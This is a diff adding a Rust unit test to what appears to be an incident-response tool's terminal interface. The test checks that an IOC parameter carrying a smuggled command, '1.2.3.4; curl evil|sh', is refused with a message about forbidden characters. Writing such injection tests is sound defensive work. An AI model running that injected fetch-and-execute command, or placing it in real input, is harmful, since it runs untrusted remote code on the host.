@@ -1432,6 +1432,26 @@ fn proposing_an_action_asks_for_its_parameters_and_records_them() {
 }
 
 #[test]
+fn a_parameter_value_that_could_never_run_is_refused_when_proposed() {
+    let mut m = model_on_incident();
+    select_action(&mut m, "block-ioc-egress");
+    update(&mut m, key('p'));
+    typed_text(&mut m, "1.2.3.4; curl evil|sh");
+    let fx = update(&mut m, code(KeyCode::Enter));
+    assert!(writes(&fx).is_empty(), "nothing written");
+    let flash = &m.flash.as_ref().unwrap().text;
+    assert!(
+        flash.contains("IOC_IP holds ';' '|'") && flash.contains("letters, digits"),
+        "{flash}"
+    );
+    // The editor stays open with what was typed, to be fixed.
+    let Some(Overlay::Editor(ed)) = &m.overlay else {
+        panic!("the editor closed")
+    };
+    assert_eq!(ed.text(), "IOC_IP=1.2.3.4; curl evil|sh");
+}
+
+#[test]
 fn the_timeline_marks_the_selected_row_and_enter_opens_it() {
     let mut m = model_on_incident();
     m.incident.as_mut().unwrap().focus = Pane::Timeline;
